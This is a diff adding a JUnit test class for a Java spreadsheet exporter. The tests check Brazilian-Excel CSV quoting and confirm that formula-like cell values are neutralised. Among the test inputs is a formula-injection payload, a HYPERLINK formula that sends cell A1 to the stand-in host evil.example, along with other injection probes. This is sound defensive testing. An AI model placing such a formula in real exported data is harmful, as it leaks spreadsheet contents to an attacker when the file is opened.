@@ -1,0 +1,66 @@
+package br.org.teia.kernel.export;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayInputStream;
+import java.math.BigDecimal;
+import java.nio.charset.StandardCharsets;
+import java.time.LocalDate;
+import java.util.List;
+import org.dhatim.fastexcel.reader.ReadableWorkbook;
+import org.dhatim.fastexcel.reader.Row;
+import org.junit.jupiter.api.Test;
+
+class SpreadsheetTest {
+
+  record Person(String name, Integer age, LocalDate since) {}
+
+  static final Spreadsheet<Person> SHEET = new Spreadsheet<>(List.of(
+      new Spreadsheet.Column<>("Nome", Person::name),
+      new Spreadsheet.Column<>("Idade", Person::age),
+      new Spreadsheet.Column<>("Desde", Person::since)));
+
+  @Test
+  void csv_is_what_brazilian_excel_opens_with_quotes_only_where_needed() {
+    String csv = new String(SHEET.csv(List.of(new Person("Ana; \"Bia\"", 40, LocalDate.of(2009, 12, 1)),
+        new Person("Zé", null, null))), StandardCharsets.UTF_8);
+
+    assertThat(csv).isEqualTo("\uFEFFNome;Idade;Desde\r\n\"Ana; \"\"Bia\"\"\";40;01/12/2009\r\nZé;;\r\n");
+  }
+
+  @Test
+  void a_name_that_is_a_formula_is_exported_as_text_in_csv() {
+    String csv = new String(SHEET.csv(List.of(
+        new Person("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Clique\")", 1, null),
+        new Person("+5511999990000", 2, null), new Person("-2+3", 3, null), new Person("@SUM(A1:A9)", 4, null),
+        new Person("\tTab", 5, null), new Person("\rCR", 6, null))), StandardCharsets.UTF_8);
+
+    assertThat(csv.split("\r\n", -1)).containsSubsequence(
+        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Clique\"\")\";1;",
+        "'+5511999990000;2;", "'-2+3;3;", "'@SUM(A1:A9);4;", "'\tTab;5;");
+    assertThat(csv).contains("\"'\rCR\";6;");
+  }
+
+  @Test
+  void a_name_that_is_a_formula_is_exported_as_text_in_xlsx_and_numbers_stay_numbers() throws Exception {
+    Spreadsheet<Object[]> sheet = new Spreadsheet<>(List.of(
+        new Spreadsheet.Column<>("Nome", row -> row[0]), new Spreadsheet.Column<>("Saldo", row -> row[1])));
+    byte[] xlsx = sheet.xlsx("Pessoas", List.<Object[]>of(
+        new Object[] {"=HYPERLINK(\"http://evil.example\";\"Clique\")", new BigDecimal("-12.5")}));
+
+    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
+      List<Row> rows = workbook.getFirstSheet().read();
+      assertThat(rows.get(1).getCellText(0)).isEqualTo("'=HYPERLINK(\"http://evil.example\";\"Clique\")");
+      assertThat(rows.get(1).getCellAsNumber(1)).hasValue(new BigDecimal("-12.5"));
+    }
+  }
+
+  @Test
+  void ordinary_text_and_negative_numbers_are_left_alone() {
+    assertThat(Spreadsheet.neutralised("Maria")).isEqualTo("Maria");
+    assertThat(Spreadsheet.neutralised("")).isEmpty();
+    assertThat(Spreadsheet.neutralised(null)).isNull();
+    String csv = new String(SHEET.csv(List.of(new Person("Maria", -1, null))), StandardCharsets.UTF_8);
+    assertThat(csv).endsWith("Maria;-1;\r\n");
+  }
+}
